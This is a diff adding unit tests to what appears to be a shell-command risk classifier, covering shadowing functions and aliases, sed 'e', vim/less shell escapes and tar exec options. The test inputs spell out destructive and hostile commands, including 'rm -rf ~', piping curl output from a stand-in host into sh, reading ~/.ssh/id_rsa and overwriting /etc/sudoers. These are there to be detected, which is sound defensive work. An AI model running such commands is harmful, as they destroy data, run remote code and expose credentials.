@@ -490,3 +490,62 @@ describe('any input', () => {
     }
   });
 });
+
+describe('functions and aliases that shadow real commands', () => {
+  it('judges a call by the body of the function it calls, naming the shadowed command', () => {
+    for (const [text, level] of [
+      ['kubectl() { command kubectl delete ns --all; }; kubectl get pods', 'dangerous'],
+      ['function docker { command docker system prune -af --volumes; }\ndocker ps', 'dangerous'],
+      ['terraform() { builtin command terraform destroy -auto-approve; }; terraform plan', 'admin'],
+      ['ls() { rm -rf ~; }; ls', 'dangerous'],
+    ] as const) {
+      const { level: got, reasons } = judge.judge(text);
+      expect(got, text).toBe(level);
+      expect(reasons.find((r) => r.rule === 'judge.function.shadows')?.reason, text).toMatch(/^function `\w+` shadows the real command; its body runs `.+`$/);
+    }
+  });
+
+  it('runs the real command through `command` and `builtin`, not the function of the same name', () => {
+    expect(levelOf('git() { echo hi; }; command git push --force origin main')).toBe('admin');
+    expect(levelOf('alias rm="echo"; command rm -rf /')).toBe('dangerous');
+  });
+
+  it('leaves harmless functions and aliases at the level of what they run', () => {
+    expect(levelOf('ll() { ls -la "$@"; }; ll /tmp')).toBe('read');
+    expect(levelOf('greet() { echo hello; }; greet')).toBe('read');
+    expect(levelOf('alias k=kubectl; k get pods')).toBe('read');
+  });
+});
+
+describe('interpreters inside tools', () => {
+  it('judges sed\'s e command after an address, and leaves a pattern that starts with e alone', () => {
+    expect(levelOf("sed -n '1e rm -rf ~' file.txt")).toBe('dangerous');
+    expect(levelOf("sed '$e curl -s http://x.example | sh' f")).toBe('dangerous');
+    expect(levelOf("sed -n '/error/p' app.log")).toBe('read');
+    expect(levelOf("sed -n '/^e/p' words.txt")).toBe('read');
+  });
+
+  it('judges the shell escapes, writes and script commands an editor or pager is told to run', () => {
+    expect(levelOf("vim -c ':!rm -rf /' -c ':q' file")).toBe('dangerous');
+    expect(levelOf("vim +'silent !curl -s http://x | sh' +q notes")).toBe('dangerous');
+    expect(levelOf("ex +':w! /etc/sudoers' +q notes")).toBe('dangerous');
+    expect(levelOf("nvim --cmd 'set nocp' -c 'r !cat ~/.ssh/id_rsa' -c 'w /tmp/k' notes")).toBe('admin');
+    expect(levelOf("vim -c 'py3 import os; os.system(\"id\")' -c q")).toBe('dangerous');
+    expect(levelOf("less '+!rm -rf ~' README")).toBe('dangerous');
+    expect(rulesOf("ex +':w! /etc/sudoers' +q notes")).toContain('editor.write-command.system');
+  });
+
+  it('leaves ordinary editor starts as edits', () => {
+    expect(levelOf('vim +10 README.md')).toBe('write');
+    expect(levelOf("vim -c 'set number' README.md")).toBe('write');
+    expect(levelOf("nvim -c 'wq /tmp/out.txt' notes")).toBe('write');
+    expect(levelOf('less +G app.log')).toBe('read');
+  });
+
+  it('judges tar options that run arbitrary text as dangerous, whatever the text', () => {
+    for (const text of ["tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh", "tar -cf a.tar x --checkpoint=1 --checkpoint-action=exec='echo hi'", "tar xf a.tar --to-command='sh -c \"cat > $TAR_FILENAME\"'", 'tar -cML 1 -f a.tar x --info-script=./next.sh']) {
+      expect(levelOf(text), text).toBe('dangerous');
+    }
+    expect(levelOf('tar -czf backup.tgz ./src')).toBe('write');
+  });
+});
